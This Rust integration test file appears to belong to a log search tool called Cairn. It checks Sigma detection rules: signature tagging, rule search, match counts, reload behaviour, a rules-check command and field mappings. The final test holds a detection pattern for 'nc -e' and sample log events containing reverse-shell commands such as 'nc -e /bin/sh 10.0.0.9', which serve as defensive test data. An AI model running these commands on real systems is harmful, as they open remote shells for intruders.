//! Sigma detection rules on the live stream: tagging, search by signature, match counts, reload.

mod common;

use std::process::Command;
use std::time::{Duration, Instant};

use common::{Cairn, DEADLINE, TempDir, unique_token};

const RULE_ID: &str = "5a3c9e52-7d1e-4c1e-9a57-3f4e8f0b2a11";

fn rule(id: &str, title: &str, needle: &str) -> String {
    format!(
        r#"title: {title}
id: {id}
status: test
level: high
author: Cairn tests
logsource:
    product: linux
detection:
    selection:
        message|contains: '{needle}'
    filter:
        host: 'trusted'
    condition: selection and not filter
"#
    )
}

fn send_line(cairn: &Cairn, line: &str) {
    let response = cairn.post("/api/v1/ingest", &[], format!("{line}\n").as_bytes());
    assert_eq!(response.status, 200, "{}", response.text());
}

#[test]
fn matching_events_carry_their_signature_and_reload_is_atomic() {
    let data = TempDir::new("sig");
    let rules_dir = data.path().join("rules");
    std::fs::create_dir_all(&rules_dir).expect("rules dir");
    let rule_file = rules_dir.join("mine.yml");
    std::fs::write(&rule_file, rule(RULE_ID, "Disk on fire", "disk on fire")).expect("write rule");
    let cairn = Cairn::start(
        &data.path().join("data"),
        &["--rules", rules_dir.to_str().expect("path")],
    );
    let token = unique_token("sig");

    send_line(
        &cairn,
        &format!(r#"{{"message":"{token} the DISK ON FIRE again","host":"db1"}}"#),
    );
    send_line(
        &cairn,
        &format!(r#"{{"message":"{token} disk on fire drill","host":"trusted"}}"#),
    );
    send_line(
        &cairn,
        &format!(r#"{{"message":"{token} all quiet","host":"db1"}}"#),
    );
    cairn.search_until(&token, 3);
    let tagged = cairn.search(&format!("{token} AND signature:{RULE_ID}"), "");
    assert_eq!(tagged["total"], 1, "{tagged}");
    assert_eq!(tagged["events"][0]["host"], "db1");
    assert_eq!(tagged["events"][0]["signatures"][0], RULE_ID, "{tagged}");
    assert_eq!(
        tagged["events"][0]["rules"],
        serde_json::json!(["Disk on fire"]),
        "{tagged}"
    );
    // Rule titles are searchable word by word (any case, phrases); ids stay exact terms.
    for by_title in [
        format!("{token} AND rule:fire"),
        format!("{token} AND rule:DISK"),
        format!("{token} AND rule:\"disk on fire\""),
    ] {
        let found = cairn.search(&by_title, "");
        assert_eq!(found["total"], 1, "{by_title}: {found}");
        assert_eq!(found["events"][0]["host"], "db1", "{found}");
    }
    let wrong_order = cairn.search(&format!("{token} AND rule:\"fire on disk\""), "");
    assert_eq!(wrong_order["total"], 0, "{wrong_order}");
    let partial_id = cairn.search(&format!("{token} AND signature:5a3c9e52"), "");
    assert_eq!(partial_id["total"], 0, "{partial_id}");

    let rules = cairn.get("/api/v1/rules").json();
    let mine = rules["rules"]
        .as_array()
        .expect("rules")
        .iter()
        .find(|rule| rule["id"] == RULE_ID)
        .unwrap_or_else(|| panic!("rule listed: {rules}"))
        .clone();
    assert_eq!(mine["matches"], 1, "{mine}");
    assert_eq!(mine["level"], "high");
    assert_eq!(mine["author"], "Cairn tests");

    // A broken rule file: the reload is refused with the reason, the old rule keeps running.
    std::fs::write(&rule_file, "title: broken\nlogsource:\n    product: linux\ndetection:\n    sel:\n        message|contians: x\n    condition: sel\n")
        .expect("write broken rule");
    let refused = cairn.post("/api/v1/rules/reload", &[], b"");
    assert_eq!(refused.status, 422, "{}", refused.text());
    let outcome = refused.json();
    assert_eq!(outcome["reloaded"], false);
    assert!(
        outcome["problems"][0]["reason"]
            .as_str()
            .expect("reason")
            .contains("contians"),
        "{outcome}"
    );
    send_line(
        &cairn,
        &format!(r#"{{"message":"{token} disk on fire twice","host":"db2"}}"#),
    );
    let still = cairn.search_until(&format!("{token} AND signature:{RULE_ID}"), 2);
    assert_eq!(still["total"], 2, "{still}");

    // A fixed rule with a new id, reloaded by SIGHUP: new events get the new signature only.
    let new_id = "0b7f3f0e-1d2c-4b5a-8e9f-112233445566";
    std::fs::write(&rule_file, rule(new_id, "Fan failure", "fan failure")).expect("write new rule");
    let generation = cairn.get("/api/v1/rules").json()["generation"]
        .as_u64()
        .expect("generation");
    let status = Command::new("kill")
        .args(["-HUP", &cairn.pid().to_string()])
        .status()
        .expect("kill");
    assert!(status.success());
    let deadline = Instant::now() + DEADLINE;
    while cairn.get("/api/v1/rules").json()["generation"].as_u64() == Some(generation) {
        assert!(Instant::now() < deadline, "SIGHUP did not reload the rules");
        std::thread::sleep(Duration::from_millis(20));
    }
    send_line(
        &cairn,
        &format!(r#"{{"message":"{token} fan failure and disk on fire","host":"db3"}}"#),
    );
    let fan = cairn.search_until(&format!("{token} AND signature:{new_id}"), 1);
    assert_eq!(
        fan["events"][0]["signatures"],
        serde_json::json!([new_id]),
        "{fan}"
    );
    let old = cairn.search(&format!("{token} AND signature:{RULE_ID}"), "");
    assert_eq!(
        old["total"], 2,
        "events indexed before the reload keep their signature: {old}"
    );
}

#[test]
fn rules_check_reports_loaded_and_rejected_rules() {
    let data = TempDir::new("check");
    std::fs::write(
        data.path().join("good.yml"),
        rule(RULE_ID, "Disk on fire", "disk on fire"),
    )
    .expect("write");
    std::fs::write(
        data.path().join("bad.yml"),
        "title: Bad one\nlogsource:\n    product: linux\ndetection:\n    sel:\n        message|contians: x\n    condition: sel\n",
    )
    .expect("write");
    let output = Command::new(env!("CARGO_BIN_EXE_cairn"))
        .args(["rules", "check"])
        .arg(data.path())
        .output()
        .expect("run cairn rules check");
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert_eq!(output.status.code(), Some(1), "{stdout}");
    assert!(
        stdout.contains(&format!("ok        {RULE_ID}  [high] Disk on fire")),
        "{stdout}"
    );
    assert!(
        stdout.contains("rejected") && stdout.contains("Bad one") && stdout.contains("contians"),
        "{stdout}"
    );
    assert!(stdout.contains("1 rules usable, 1 rejected"), "{stdout}");

    std::fs::remove_file(data.path().join("bad.yml")).expect("remove");
    let output = Command::new(env!("CARGO_BIN_EXE_cairn"))
        .args(["rules", "check"])
        .arg(data.path())
        .output()
        .expect("run cairn rules check");
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stdout)
    );
}

#[test]
fn builtin_pack_and_field_extraction_run_on_syslog_input() {
    let data = TempDir::new("builtin");
    let cairn = Cairn::start(data.path(), &[]);
    let rules = cairn.get("/api/v1/rules").json();
    let listed = rules["rules"].as_array().expect("rules");
    assert!(
        listed.len() >= 40,
        "built-in pack has at least 40 rules: {}",
        listed.len()
    );
    assert_eq!(rules["rejected"], serde_json::json!([]), "{rules}");
    let ssh_failed = listed
        .iter()
        .find(|rule| rule["title"] == "SSH Failed Password")
        .unwrap_or_else(|| panic!("SSH Failed Password in the pack: {rules}"));
    let ssh_id = ssh_failed["id"].as_str().expect("id").to_string();

    let token = unique_token("pack");
    let mut stream =
        std::net::TcpStream::connect(("127.0.0.1", cairn.syslog_port)).expect("connect");
    let lines = format!(
        "<38>Nov 21 10:00:00 bastion sshd[4242]: Failed password for root from 203.0.113.7 port 50022 ssh2 {token}\n\
         <38>Nov 21 10:00:01 bastion sshd[4242]: Accepted publickey for deploy from 198.51.100.2 port 50100 ssh2: RSA SHA256:x {token}\n"
    );
    std::io::Write::write_all(&mut stream, lines.as_bytes()).expect("write");
    drop(stream);
    cairn.search_until(&token, 2);
    let failed = cairn.search(&format!("{token} AND signature:{ssh_id}"), "");
    assert_eq!(failed["total"], 1, "{failed}");
    let event = &failed["events"][0];
    assert_eq!(event["fields"]["src_ip"], "203.0.113.7", "{event}");
    assert_eq!(event["fields"]["user"], "root", "{event}");
    let by_field = cairn.search(&format!("{token} AND fields.src_ip:\"203.0.113.7\""), "");
    assert_eq!(by_field["total"], 1, "{by_field}");
    let stats = cairn.get("/api/v1/rules").json();
    let count = stats["rules"]
        .as_array()
        .expect("rules")
        .iter()
        .find(|rule| rule["id"] == ssh_id.as_str())
        .map(|rule| rule["matches"].as_u64().unwrap_or(0));
    assert_eq!(count, Some(1), "match counted once");
}

#[test]
fn config_field_and_logsource_mappings_apply_on_start_and_reload() {
    let data = TempDir::new("mapping");
    let rules_dir = data.path().join("rules");
    std::fs::create_dir_all(&rules_dir).expect("rules dir");
    let mapped_id = "7c1d2e3f-4a5b-4c6d-8e7f-a1b2c3d4e5f6";
    std::fs::write(
        rules_dir.join("mapped.yml"),
        format!(
            r#"title: Reverse shell in deploy tool
id: {mapped_id}
level: high
logsource:
    service: deployd
detection:
    selection:
        ShellCommand|contains: 'nc -e'
    condition: selection
"#
        ),
    )
    .expect("write rule");
    let config = data.path().join("cairn.toml");
    std::fs::write(
        &config,
        r#"
[rules]
builtin = false
[rules.fields]
ShellCommand = "cmdline"
[[rules.logsource]]
service = "deployd"
match = { app = ["deployd", "deployd-agent"] }
"#,
    )
    .expect("write config");
    let cairn = Cairn::start(
        &data.path().join("data"),
        &[
            "--config",
            config.to_str().expect("path"),
            "--rules",
            rules_dir.to_str().expect("path"),
        ],
    );
    let token = unique_token("map");
    // Matches only through the mapping: the event has no `ShellCommand` field.
    send_line(
        &cairn,
        &format!(
            r#"{{"message":"{token} one","app":"deployd-agent","cmdline":"nc -e /bin/sh 10.0.0.9"}}"#
        ),
    );
    // The logsource mapping confines the rule to deployd's apps.
    send_line(
        &cairn,
        &format!(r#"{{"message":"{token} two","app":"cron","cmdline":"nc -e /bin/sh 10.0.0.9"}}"#),
    );
    // The Sigma name itself is not read once it is mapped.
    send_line(
        &cairn,
        &format!(r#"{{"message":"{token} three","app":"deployd","ShellCommand":"nc -e /bin/sh"}}"#),
    );
    cairn.search_until(&token, 3);
    let tagged = cairn.search(&format!("{token} AND signature:{mapped_id}"), "");
    assert_eq!(tagged["total"], 1, "{tagged}");
    assert_eq!(tagged["events"][0]["app"], "deployd-agent", "{tagged}");

    let reloaded = cairn.post("/api/v1/rules/reload", &[], b"");
    assert_eq!(reloaded.status, 200, "{}", reloaded.text());
    send_line(
        &cairn,
        &format!(r#"{{"message":"{token} four","app":"deployd","cmdline":"x; nc -e /bin/bash"}}"#),
    );
    let after = cairn.search_until(&format!("{token} AND signature:{mapped_id}"), 2);
    assert_eq!(after["total"], 2, "the mapping survives a reload: {after}");
}
